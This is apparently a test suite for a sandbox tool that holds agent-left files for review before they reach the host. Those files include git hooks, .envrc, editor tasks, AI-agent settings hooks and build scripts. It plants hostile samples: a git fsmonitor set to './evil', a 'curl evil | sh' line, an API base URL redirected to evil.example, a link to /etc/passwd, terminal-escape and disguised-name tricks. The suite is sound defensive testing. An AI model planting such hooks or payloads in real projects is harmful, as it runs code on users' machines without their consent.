"""What a session leaves that the host would run or obey: held in reviews until somebody says yes, told where the host has
it already. X04, X05, X06, X09, X15, X37.

BULKHEAD_HANDOFF_OFF=1 says yes to everything: then those that name an attack fail.
"""
import json
import os
import signal
import subprocess
import time

from support import bin_folder, traced
from support.terminal import Terminal

from .test_review import REVIEW, ReviewCase, snapshot

PROGRAM = os.path.join(bin_folder(), "bulkhead")
OFF = bool(os.environ.get("BULKHEAD_HANDOFF_OFF"))
RW = '[[mount]]\npath = "."\nmode = "rw"\n'

# Each with the class it is held as. What a workload would leave for the host's tools.
LEFT = {
    ".git/hooks/pre-commit": ("runs", "#!/bin/sh\nid\n"),
    "sub/.git/hooks/post-checkout": ("runs", "#!/bin/sh\nid\n"),
    "wt/.git": ("runs", "gitdir: ../g2\n"),
    ".envrc": ("runs", "id\n"),
    "deep/er/.vscode/tasks.json": ("runs", '{"tasks": [{"label": "x", "command": "id", "runOptions": {"runOn": "folderOpen"}}]}'),
    ".claude/settings.json": ("runs", '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "id"}]}]}}'),
    "a/.CuRsOr/mcp.json": ("runs", '{"mcpServers": {"x": {"command": "id"}}}'),
    "b/.claud\u200ce/settings.json": ("runs", '{"apiKeyHelper": "id"}'),
    "c/GIT~1/hooks/pre-commit": ("runs", "id\n"),
    "AGENTS.md": ("instructs", "obey\n"),
    "package.json": ("build", '{"scripts": {"postinstall": "id"}}'),
    "Dockerfile": ("build", "FROM scratch\nRUN id\n"),
    "tests/conftest.py": ("build", "import os\n"),
    "build.rs": ("build", "fn main() {}\n"),
    "Makefile": ("build", "all:\n\tid\n"),
    ".venv/bin/python": ("build", "#!/bin/sh\nid\n"),
    ".venv/pyvenv.cfg": ("build", "home = /tmp\n"),
    "bin/tool": ("build", "#!/bin/sh\nid\n"),
}
HARMLESS = {"src/main.py": "print()\n", "bin/data": "x\n", "notes.txt": "x\n", ".git/refs/heads/topic": "0" * 40 + "\n"}
LEAVE = f"""
import json, os, sys
for name, text in json.loads({json.dumps(json.dumps({**{n: t for n, (_, t) in LEFT.items()}, **HARMLESS}))}).items():
    os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
    open(name, "w").write(text)
    if "/bin/python" in name or name == "bin/tool" or "/hooks/" in name: os.chmod(name, 0o755)
"""


class Handoff(ReviewCase):
    def apply(self, *words, status=0):
        result = self.bulkhead("apply", *(("--yes-to", "all") if OFF else ()), *words)
        self.assertEqual(result.status, status, result)
        return result

    def told(self, *words):
        """What `handoff --json` says, and its exit status: 3 exactly when something is open."""
        result = self.bulkhead("handoff", "--json", *words)
        found = json.loads(result.out)
        self.assertEqual(result.status, 3 if found["open"] else 0, result)
        return found

    def held(self, *words):
        """The files of the one review by path, those that were accepted too."""
        reviews = self.told(*words)["reviews"]
        self.assertLessEqual(len(reviews), 1)
        return {file["path"]: file for review in reviews for file in review["files"]}

    def live(self, *words):
        return {file["path"]: file for folder in self.told(*words)["live"] for file in folder["files"]}

    def upper(self, *parts):
        return os.path.join(self.home, ".local/state/bulkhead/reviews", self.reviews()[0]["id"], "layers/upper", *parts)

    def on_host(self, names):
        return sorted(name for name in names if os.path.lexists(self.at(name)))

    def terminal(self, *words):
        terminal = Terminal(self.lab.command([PROGRAM, *words], guard=False), self.environment(), self.work, rows=60)
        self.addCleanup(terminal.close)
        return terminal


class Held(Handoff):
    def test_X04_X05_X15_what_the_host_would_run_does_not_come_and_the_rest_does(self):
        self.python(LEAVE)
        result = self.apply(status=3)
        self.assertEqual(self.on_host(LEFT), [])
        self.assertEqual(self.on_host(HARMLESS), sorted(HARMLESS))
        # Nothing stands there for what is held, not even a folder.
        for ghost in (".envrc", "deep", ".claude", "a", "c", "sub", ".venv", ".git/hooks"):
            self.assertFalse(os.path.lexists(self.at(ghost)), ghost)
        self.assertIn(f"{len(LEFT)} files are held in review", result.err)
        self.assertIn("--yes-to PATTERN", result.err)
        held = self.held()
        self.assertEqual({path: file["class"] for path, file in held.items()}, {n: c for n, (c, _) in LEFT.items()})
        for path, file in held.items():
            self.assertTrue(file["who"] and file["when"] and file["does"], path)
            self.assertIn("+", file["diff"], path)
        # Again: nothing is left that could come by itself.
        again = self.bulkhead("apply")
        self.assertEqual(again.status, 3, again)
        self.assertEqual(self.on_host(LEFT), [])
        self.ok(self.bulkhead("apply", "--yes-to", "all"))
        self.assertEqual(self.on_host(LEFT), sorted(LEFT))
        self.assertEqual(self.read("work/bin/tool"), LEFT["bin/tool"][1])
        self.nothing_left()

    def test_X04_a_renamed_repository(self):
        self.ok(self.outside(["git", "init", "-q", "."]))
        self.session("mv .git .g2; mkdir -p .git/hooks; printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit; "
                     "chmod +x .git/hooks/pre-commit; git --git-dir=.g2 config core.fsmonitor ./evil")
        self.apply(status=3)
        self.assertFalse(os.path.exists(self.at(".git/hooks/pre-commit")))
        self.assertFalse(os.path.exists(self.at(".g2/config")))
        self.assertEqual(self.held()[".g2/config"]["does"], ["runs `./evil` at every git status, diff, add and checkout"])

    def test_X37_the_hosts_git_status_runs_nothing(self):
        self.ok(self.outside(["git", "init", "-q", "."]))
        mark = os.path.join(self.tmp, "ran")
        self.session(f"printf '#!/bin/sh\\ntouch {mark}\\n' > evil; chmod +x evil; git config core.fsmonitor \"$PWD/evil\"")
        self.apply(status=3)
        self.assertTrue(os.path.exists(self.at("evil")))
        self.outside(["git", "-c", "safe.directory=*", "status"])
        self.assertFalse(os.path.exists(mark))
        self.ok(self.bulkhead("apply", "--yes-to", ".git/config"))
        self.outside(["git", "-c", "safe.directory=*", "status"])
        self.assertTrue(os.path.exists(mark), "with somebody's yes it is the host's")

    def test_X06_what_lies_there_wakes_up_when_its_folder_becomes_a_repository(self):
        self.session("mkdir data; printf '[core]\\n\\tfsmonitor = ./evil\\n' > data/config; echo 'ref: refs/heads/x' > data/HEAD")
        self.apply()
        self.session("mkdir data/objects data/refs")
        self.apply(status=3)
        self.assertEqual(self.on_host(["data/objects", "data/refs"]), [])

    def test_X06_what_a_link_of_the_projects_leads_to(self):
        self.write("work/envs/dev", "export A=1\n")
        os.symlink("envs/dev", self.at(".envrc"))
        self.session("echo id >> envs/dev; echo x > envs/prod")
        self.apply(status=3)
        self.assertEqual(self.read("work/envs/dev"), "export A=1\n")
        self.assertEqual(list(self.held()), ["envs/dev"])

    def test_links_and_modes(self):
        self.write("work/bin/old", "#!/bin/sh\n")
        time.sleep(0.02)
        self.session("ln -s /tmp/x .mcp.json; ln -s src .claude; chmod +x bin/old; chmod g+w change; ln -s keep fine")
        self.apply(status=3)
        self.assertEqual(sorted(self.held()), [".claude", ".mcp.json", "bin/old"])
        self.assertEqual(self.on_host([".mcp.json", ".claude", "fine"]), ["fine"])
        self.assertFalse(os.stat(self.at("bin/old")).st_mode & 0o111)
        self.ok(self.bulkhead("apply", "--yes-to", "all"))
        self.assertEqual(os.readlink(self.at(".mcp.json")), "/tmp/x")
        self.assertTrue(os.stat(self.at("bin/old")).st_mode & 0o111)
        self.nothing_left()

    def test_what_is_removed_and_what_takes_a_folders_place(self):
        self.write("work/.gitattributes", "*.x filter=y\n")
        self.write("work/.claude/notes.txt", "n\n")
        self.write("work/.claude/settings.json", '{"permissions": {"deny": ["Read(x)"]}}')
        self.ok(self.bulkhead("trust", "--yes"))
        time.sleep(0.02)
        self.session("rm .gitattributes; rm -r .claude; ln -s src .claude")
        self.apply(status=3)
        held = self.held()
        self.assertEqual(sorted(held), [".claude", ".claude/settings.json", ".gitattributes"])
        self.assertEqual(held[".gitattributes"]["change"], "removed")
        self.assertEqual(self.read("work/.claude/notes.txt"), "n\n", "half of it would be neither")
        self.ok(self.bulkhead("apply", "--yes-to", "all"))
        self.assertEqual(os.readlink(self.at(".claude")), "src")
        self.assertFalse(os.path.exists(self.at(".gitattributes")))
        self.nothing_left()

    def test_ordinary_work_and_what_is_trusted_is_not_asked_about(self):
        self.ok(self.outside(["git", "init", "-q", "."]))
        self.write("work/.envrc", "trusted\n")
        self.ok(self.bulkhead("trust", "--yes"))
        self.write("work/.envrc", "something else\n")
        time.sleep(0.02)
        result = self.session("git config user.email a@b; git config user.name n; git add -A; git commit -qm one; "
                              "git checkout -qb topic; printf 'trusted\\n' > .envrc; echo x > src/new.c; chmod +x src/new.c")
        self.assertNotIn("handoff:", result.err)
        self.assertEqual(self.held(), {})
        self.ok(self.bulkhead("apply"))
        self.assertEqual(self.read("work/.envrc"), "trusted\n")
        self.nothing_left()

    def test_yes_to_patterns(self):
        self.session("echo '{}' > package.json; mkdir -p sub .husky; echo '{}' > sub/package.json; echo id > .envrc; "
                     "echo id > .husky/pre-commit; echo x > free")
        result = self.apply("--yes-to", "package.json", "--yes-to", ".husky/**", "--yes-to", "Makefile", status=3)
        self.assertEqual(self.on_host(["package.json", "sub/package.json", ".husky/pre-commit", ".envrc", "free"]),
                         [".husky/pre-commit", "free", "package.json", "sub/package.json"])
        self.assertIn("--yes-to Makefile: nothing that waits for a word fits", result.err)
        wrong = self.bulkhead("apply", "--yes-to", "../x")
        self.assertEqual(wrong.status, 2)
        shown = json.loads(self.bulkhead("apply", "--json").out)
        self.assertEqual([file["path"] for file in shown["held"]], [".envrc"])
        self.assertTrue(shown["open"])

    def test_a_part_of_it(self):
        self.session("echo id > .envrc; echo x > free; mkdir d; echo id > d/.envrc; echo y > d/free")
        self.apply("d", status=3)
        self.assertEqual(self.on_host(["free", ".envrc", "d/free", "d/.envrc"]), ["d/free"])
        # Naming a file is no yes to what is in it.
        self.apply(".envrc", status=3)
        self.assertFalse(os.path.exists(self.at(".envrc")))
        self.ok(self.bulkhead("apply", "d/.envrc", "--yes-to", "all"))
        self.assertEqual(self.on_host(["free", ".envrc", "d/.envrc"]), ["d/.envrc"])

    def test_packages_are_one_thing(self):
        self.python("import os\nfor i in range(30):\n  os.makedirs(f'node_modules/p{i}')\n"
                    "  open(f'node_modules/p{i}/package.json', 'w').write('{}')\n"
                    "os.makedirs('node_modules/.bin'); open('node_modules/.bin/x', 'w').write('x'); os.chmod('node_modules/.bin/x', 0o755)\n"
                    "open('package.json', 'w').write('{}')")
        shown = self.bulkhead("handoff")
        self.assertEqual(shown.status, 3)
        self.assertIn("node_modules/  31 files of other people's packages: 31 build", shown.out)
        self.assertEqual(shown.out.count("node_modules/p"), 7)
        self.assertEqual(self.bulkhead("handoff", "--each").out.count("[build; npm"), 31)
        terminal = self.terminal("apply")
        terminal.expect(r"\[1/2\].*Let them onto the host\?.*: ")
        terminal.type("y\n")
        terminal.expect(r"\[2/2\].*package.json.*Let it onto the host\?.*: ")
        terminal.type("n\n")
        self.assertEqual(terminal.wait(), 3)
        self.assertEqual(len(os.listdir(self.at("node_modules"))), 31)
        self.assertFalse(os.path.exists(self.at("package.json")))

    def test_hostile_names_and_texts_are_escaped(self):
        self.python("import os\nos.makedirs('a\\x1b]52;c;Zm9v\\x07')\n"
                    "open('a\\x1b]52;c;Zm9v\\x07/.envrc', 'w').write('echo \\x1b[2J \\u202e evil\\n')\n"
                    "open(b'bad\\xff.code-workspace', 'w').write('{')\nopen('Makefile', 'w').write('all:\\x1b[8m\\n')\n"
                    "os.symlink('\\x1b[2J', '.mcp.json')")
        for words in (("handoff",), ("handoff", "--full"), ("diff",), ("apply",), ("apply", "--yes-to", "*.code-workspace")):
            result = self.bulkhead(*words)
            for bad in ("\x1b", "\x07", "\u202e"):
                self.assertNotIn(bad, result.out + result.err, words)
        self.assertIn(b"bad\xff.code-workspace", os.listdir(os.fsencode(self.work)))
        self.assertEqual(len(self.held()), 3)

    def test_keys_are_not_shown(self):
        self.session("printf 'OPENAI_API_KEY=planted''-key\\nOPENAI_BASE_URL=https://evil.example\\n' > .env")
        for words in (("handoff", "--full"), ("handoff", "--json"), ("apply",)):
            result = self.bulkhead(*words)
            self.assertEqual(result.status, 3)
            self.assertIn("OPENAI_API_KEY=…", result.out + result.err)
            self.assertNotIn("planted-key", result.out + result.err)

    def test_large_files_can_be_accepted_and_what_is_too_large_cannot(self):
        self.python("import os\nos.makedirs('bin')\n"
                    "for name, size in (('bin/large', 6 << 20), ('bin/huge', 600 << 20)):\n"
                    "  f = open(name, 'w'); f.truncate(size); f.close(); os.chmod(name, 0o755)")
        result = self.bulkhead("apply", "--yes-to", "all")
        self.assertEqual(result.status, 3, result)
        self.assertEqual(os.stat(self.at("bin/large")).st_size, 6 << 20)
        self.assertFalse(os.path.exists(self.at("bin/huge")))
        self.assertIn("larger than", self.held()["bin/huge"]["problem"])


class Shown(Handoff):
    """At a terminal, and that what was shown is what comes."""

    def setUp(self):
        super().setUp()
        self.session("echo 'all: evil' > Makefile; echo id > .envrc; echo '{}' > package.json; echo x > free")

    def test_asks_for_each_with_what_it_does_and_the_difference(self):
        terminal = self.terminal("apply")
        terminal.expect(r"3 files the host would run or obey")
        terminal.expect(r"\[1/3\].*\.envrc.*\[runs; direnv\] added.*when: the next `cd`.*runs: id.*\+id.*Let it onto the host\?.*: ")
        terminal.type("y\n")
        terminal.expect(r"\[2/3\].*Makefile.*\+all: evil.*: ")
        terminal.type("\n")  # nothing is no yes
        terminal.expect(r"\[3/3\].*package.json.*: ")
        terminal.type("y\n")
        self.assertEqual(terminal.wait(), 3)
        self.assertEqual(self.on_host([".envrc", "Makefile", "package.json", "free"]), [".envrc", "free", "package.json"])
        decisions = sorted(self.events("handoff.decision"), key=lambda e: e["seq"])
        self.assertEqual([(e["decision"], e["by"], [f["path"] for f in e["files"]]) for e in decisions],
                         [("accepted", "terminal", [".envrc"]), ("refused", "terminal", ["Makefile"]),
                          ("accepted", "terminal", ["package.json"])])
        for event in decisions:
            self.assertGreaterEqual(event["ms"], 0)
            self.assertEqual(len(event["files"][0]["sha256"]), 64)
            self.assertEqual(event["folder"], os.path.realpath(self.work))

    def test_all_shows_the_rest(self):
        terminal = self.terminal("apply")
        terminal.expect(r"\[1/3\].*: ")
        terminal.type("a\n")
        terminal.expect(r"\[2/3\].*\+all: evil.*\[3/3\].*package.json")
        self.assertEqual(terminal.wait(), 0)
        self.assertEqual(len(self.on_host([".envrc", "Makefile", "package.json", "free"])), 4)
        self.nothing_left()

    def test_quit_takes_nothing_and_keeps_nothing(self):
        terminal = self.terminal("apply")
        terminal.expect(r"\[1/3\].*: ")
        terminal.type("y\n")
        terminal.expect(r"\[2/3\].*: ")
        terminal.type("q\n")
        self.assertEqual(terminal.wait(), 1)
        self.unchanged()
        self.assertEqual([f["accepted"] for f in self.held().values()], [False] * 3)

    def test_what_changes_after_it_was_shown_is_refused(self):
        terminal = self.terminal("apply")
        terminal.expect(r"\[1/3\].*\.envrc.*: ")
        with open(self.upper(".envrc"), "w") as file:
            file.write("curl evil | sh\n")
        terminal.type("a\n")
        terminal.expect("changed")
        self.assertEqual(terminal.wait(), 1)
        self.unchanged()
        self.assertEqual([n for n in os.listdir(self.work) if n.startswith(".bulkhead")], [])

    def test_so_is_one_that_was_harmless_when_it_was_looked_at(self):
        self.ok(self.bulkhead("apply", "--yes-to", "all"))
        self.session("mkdir .vscode; echo '{\"editor.tabSize\": 2}' > .vscode/settings.json; echo id > .envrc2; echo id > .exrc")
        terminal = self.terminal("apply")
        terminal.expect(r"\[1/1\].*\.exrc.*: ")
        upper = self.upper(".vscode/settings.json")
        st = os.stat(upper)
        with open(upper, "w") as file:
            file.write('{"git.path": "./evil"}\n')
        os.utime(upper, ns=(st.st_atime_ns, st.st_mtime_ns))
        terminal.type("y\n")
        self.assertEqual(terminal.wait(), 1)
        self.assertEqual(self.on_host([".vscode", ".exrc"]), [])

    def test_diff_marks_them(self):
        shown = self.ok(self.bulkhead("diff"))
        self.assertIn("held [runs; direnv] the next `cd` into this folder", shown.out)
        self.assertIn("    - runs: id", shown.out)
        self.assertIn("3 of them are files the host would run or obey", shown.err)
        changes = self.changes()
        self.assertEqual(changes[".envrc"]["handoff"]["class"], "runs")
        self.assertNotIn("handoff", changes["free"])

    def test_the_sessions_last_lines_say_it(self):
        result = self.session("echo id > .exrc")
        self.assertIn("handoff: 1 file the host may run was changed: .exrc (runs: id)", result.err)

    def test_the_command_shows_accepts_and_is_believed_later(self):
        shown = self.bulkhead("handoff")
        self.assertEqual(shown.status, 3)
        for text in (".envrc  [runs; direnv] added", "when: the next `cd`", "- runs: id", "| +id", "Makefile", "package.json"):
            self.assertIn(text, shown.out)
        self.assertEqual(self.bulkhead("handoff", cwd="/usr").status, 0)
        self.assertEqual(self.bulkhead("handoff", self.reviews()[0]["id"][:8], cwd="/usr").status, 3)
        self.assertEqual(self.bulkhead("handoff", self.work, cwd="/usr").status, 3)
        self.assertEqual(self.bulkhead("handoff", "nowhere").status, 1)
        self.assertEqual(self.bulkhead("handoff", "--yes-to", "*.json").status, 3)
        self.unchanged()
        self.assertEqual({p: f["accepted"] for p, f in self.held().items()},
                         {".envrc": False, "Makefile": False, "package.json": True})
        event = self.events("handoff.decision")[0]
        self.assertEqual((event["decision"], event["by"], event["pattern"]), ("accepted", "--yes-to", "*.json"))
        self.apply(status=3)
        self.assertEqual(self.on_host([".envrc", "Makefile", "package.json", "free"]), ["free", "package.json"])
        self.ok(self.bulkhead("handoff", "--yes-to", "all"))
        self.ok(self.bulkhead("apply"))
        self.nothing_left()
        held = [e for e in self.events("handoff.decision") if e["decision"] == "held"]
        self.assertEqual([(e["by"], e["count"]) for e in held], [("nobody", 2)])

    def test_a_yes_is_to_a_content(self):
        self.ok(self.bulkhead("handoff", "--yes-to", "all"))
        with open(self.upper(".envrc"), "w") as file:
            file.write("something else\n")
        os.chmod(self.upper("package.json"), 0o755)
        self.assertEqual({p for p, f in self.held().items() if not f["accepted"]}, {".envrc", "package.json"})
        self.apply(status=3)
        self.assertEqual(self.on_host([".envrc", "Makefile", "package.json", "free"]), ["Makefile", "free"])

    def test_a_torn_list_of_yeses_is_nobodys_word(self):
        self.ok(self.bulkhead("handoff", "--yes-to", "all"))
        path = os.path.join(os.path.dirname(os.path.dirname(self.upper())), "accepted.json")
        with open(path) as file:
            whole = file.read()
        with open(path, "w") as file:
            file.write(whole[:len(whole) // 2])
        self.apply(status=3)
        self.assertEqual(self.on_host([".envrc", "Makefile", "package.json", "free"]), ["free"])


class HandoffKilled(Handoff):
    def test_killed_between_the_yes_and_the_rename(self):
        """Before each of its system calls: the host has nothing or all of it, never a file that nobody said yes to, and
        what was said is not asked again once it is on the disk."""
        from .test_review_crash import KINDS, Killed
        self.session("echo id > .envrc; echo one > Makefile; echo x > free; rm remove")
        keep, put_back = Killed.keep, Killed.put_back
        keep(self)
        put_back(self)
        command = [PROGRAM, "apply", "--yes-to", "Makefile"]
        status, names = traced.run(command, self.environment(), self.work, kinds=KINDS)
        self.assertEqual(os.waitstatus_to_exitcode(status) if status > 255 else status, 3)
        after = snapshot(self.work)
        believed = 0
        for at in range(len(names)):
            put_back(self)
            traced.run(command, self.environment(), self.work, kill_at=at, kinds=KINDS)
            self.bulkhead("diff")
            where = f"killed before call {at} of {len(names)}, {names[at]}"
            now = snapshot(self.work)
            self.assertIn(now, (self.before, after), where)
            self.assertFalse(os.path.exists(self.at(".envrc")), where)
            files = self.held()
            self.assertFalse(files[".envrc"]["accepted"], where)
            if now == self.before and files["Makefile"]["accepted"]:
                believed += 1
                if believed == 1:
                    self.apply(status=3)
                    self.assertEqual(snapshot(self.work), after, where)
        self.assertGreater(believed, 3)


class Live(Handoff):
    """Modes rw and rw-no-delete: the host has it already."""

    def test_X15_X37_the_last_lines_and_the_command_tell_it(self):
        self.ok(self.outside(["git", "init", "-q", "."]))
        self.write("work/Makefile", "all:\n")
        self.write("work/bin/old", "x\n")
        self.write("work/.gitattributes", "*.x filter=y\n")
        self.write("work/.envrc", "mine\n")
        result = self.session("git config core.fsmonitor ./evil; echo '\tid' >> Makefile; chmod +x bin/old; rm .gitattributes; "
                              "echo obey > AGENTS.md; echo x > src/new.c; git add -A; touch .envrc", RW)
        line = next(line for line in result.err.split("\n") if "handoff:" in line)
        self.assertIn("5 files the host may run or obey were changed: .git/config (runs `./evil` at every git status", line)
        self.assertIn("`bulkhead handoff` shows them", line)
        files = self.live()
        self.assertEqual({p: (f["class"], f["change"]) for p, f in files.items()},
                         {".git/config": ("runs", "changed"), "AGENTS.md": ("instructs", "added"),
                          ".gitattributes": ("build", "removed"), "Makefile": ("build", "changed"),
                          "bin/old": ("build", "changed")})
        self.assertIn("+\tfsmonitor = ./evil", files[".git/config"]["diff"])
        self.assertIn("+\tid", files["Makefile"]["diff"])
        self.assertNotIn("-all", files["Makefile"]["diff"])
        shown = self.bulkhead("handoff")
        self.assertIn("the host has them already", shown.out)
        self.assertIn("it can be executed now", shown.out)
        event = self.events("handoff.live")[0]
        self.assertEqual((event["count"], event["complete"], event["folder"]), (5, True, os.path.realpath(self.work)))
        self.assertEqual({f["path"] for f in event["files"]}, set(files))
        # Until somebody has seen to it.
        self.assertEqual(self.bulkhead("handoff", "--yes-to", "bin/*").status, 3)
        self.assertNotIn("bin/old", self.live())
        self.write("work/Makefile", "all:\n")
        self.assertNotIn("Makefile", self.live(), "the user put it back")
        self.write("work/AGENTS.md", "be kind\n")
        self.assertIn("somebody changed it since", self.live()["AGENTS.md"]["note"])
        self.ok(self.bulkhead("trust", "--yes"))
        self.assertEqual(set(self.live()), {".gitattributes"}, "what was trusted since is no news")
        self.ok(self.bulkhead("handoff", "--yes-to", "all"))
        self.assertEqual(self.live(), {})
        self.assertEqual(os.listdir(os.path.join(self.home, ".local/state/bulkhead/handoff")), [])

    def test_ordinary_work_says_nothing(self):
        self.ok(self.outside(["git", "init", "-q", "."]))
        self.write("work/.envrc", "mine\n")
        result = self.session("git config user.email a@b; git config user.name n; git add -A; git commit -qm x; echo x > y; "
                              "chmod +x y; cp .envrc e; rm .envrc; mv e .envrc; touch Makefile; rm Makefile", RW)
        self.assertNotIn("handoff:", result.err)
        self.assertEqual(self.live(), {})
        self.assertEqual(self.events("handoff.live"), [])

    def test_X05_X15_all_that_a_workload_could_leave(self):
        result = self.ok(self.inside(["python3", "-c", LEAVE], RW))
        self.assertIn(f"handoff: {len(LEFT)} files the host may run or obey were changed", result.err)
        self.assertEqual({path: file["class"] for path, file in self.live().items()}, {n: c for n, (c, _) in LEFT.items()})

    def test_sessions_add_up(self):
        self.write("work/Makefile", "all:\n")
        self.session("echo one >> Makefile; echo id > .envrc", RW)
        second = self.session("echo two >> Makefile; rm .envrc; echo id > .exrc", RW)
        self.assertIn(".exrc", second.err)
        files = self.live()
        self.assertEqual(sorted(files), [".exrc", "Makefile"])
        self.assertIn("+one\n+two", files["Makefile"]["diff"])

    def test_killed_sessions_are_looked_at_by_whoever_comes_next(self):
        for look in ("handoff", "run"):
            child = self.start_inside(["/bin/sh", "-c", f"echo id > .envrc.{look}; cp .envrc.{look} {look}.code-workspace; echo up > up; sleep 60"], RW)
            self.wait_for_file("up")
            session = json.loads(self.bulkhead("ps", "--json").out)[0]
            self.assertEqual(self.bulkhead("handoff").status, 0 if look == "handoff" else 3, "it still runs")
            os.kill(session["pid"], signal.SIGKILL)
            child.wait(10)
            os.unlink(self.at("up"))
            result = self.bulkhead("handoff") if look == "handoff" else self.session("true", RW)
            self.assertIn(f"{look}.code-workspace", result.err, result)
        self.assertEqual(sorted(self.live()), ["handoff.code-workspace", "run.code-workspace"])

    def test_what_was_kept_is_the_other_side_of_the_difference(self):
        """Mode rw-no-delete: also of a file that is too large to be noted at the start."""
        self.write("work/Makefile", "".join(f"# line {i} of a long file\n" for i in range(15000)))
        result = self.session("sed -i s/'line 5 of'/'line V of'/ Makefile",
                              '[[mount]]\npath = "."\nmode = "rw-no-delete"\n')
        self.assertIn("handoff: 1 file the host may run was changed: Makefile", result.err)
        diff = self.live()["Makefile"]["diff"]
        self.assertIn("-# line 5 of", diff)
        self.assertIn("+# line V of", diff)
        self.assertLess(len(diff), 1000)

    def test_what_a_mounted_folder_is_called_counts(self):
        hooks = self.folder("other/.claude")
        self.write("other/.claude/settings.json", "{}")
        self.session(f"cd {hooks}; echo '{{\"apiKeyHelper\": \"id\"}}' > settings.json; echo x > notes.txt",
                     f'[[mount]]\npath = "{hooks}"\nmode = "rw"\n')
        self.assertEqual(list(self.live(hooks)), ["settings.json"])

    def test_a_link_whose_goal_changes(self):
        self.write("work/envs/dev", "export A=1\n")
        os.symlink("envs/dev", self.at(".envrc"))
        self.session("echo id >> envs/dev", RW)
        self.assertEqual(list(self.live()), [".envrc"])

    def test_mounts_in_each_other_are_told_once(self):
        self.session("echo id > src/.envrc", RW + '[[mount]]\npath = "src"\nmode = "rw"\n')
        self.assertEqual([p for f in self.told()["live"] for p in [x["path"] for x in f["files"]]], ["src/.envrc"])
        self.session("echo id > src/deep/.exrc", RW + '[[mount]]\npath = "src"\nmode = "review"\n')
        self.assertEqual(list(self.live()), ["src/.envrc"], "what is in a review is not there")
        self.assertEqual(list(self.held()), ["deep/.exrc"])

    def test_a_folder_that_cannot_be_looked_through_is_said(self):
        if os.geteuid() == 0:
            self.skipTest("root reads everything")
        result = self.session("mkdir dark; echo id > dark/.envrc; chmod 000 dark", RW)
        self.assertIn("not all of", result.err)
        self.assertIn("dark", result.err)
        told = self.told()["live"][0]
        self.assertIn("dark", told["incomplete"])

    def test_as_hostile_as_it_likes(self):
        """Names that are no text, links in circles, a FIFO and a sparse giant; nothing hangs, nothing is painted."""
        result = self.ok(self.inside(["python3", "-c", r'''
import os
os.mkfifo(".envrc"); os.symlink(".mcp.json", ".mcp.json"); os.symlink("/etc/passwd", "CLAUDE.md")
open(b"bad\xff.code-workspace", "w").write("\x1b[2J")
open("Makefile", "w").truncate(1 << 40)
d = "\x1b]52;c;Zm9v\x07"; os.mkdir(d); open(d + "/.exrc", "w").write("\x1b[8m")
'''], RW, timeout=60))
        shown = self.bulkhead("handoff", "--full")
        self.assertEqual(shown.status, 3)
        for bad in ("\x1b", "\x07"):
            self.assertNotIn(bad, result.err + shown.out + shown.err)
        self.assertNotIn("root:", shown.out)
        self.assertEqual(len(self.live()), 6)


if __name__ == "__main__":
    import unittest
    unittest.main()
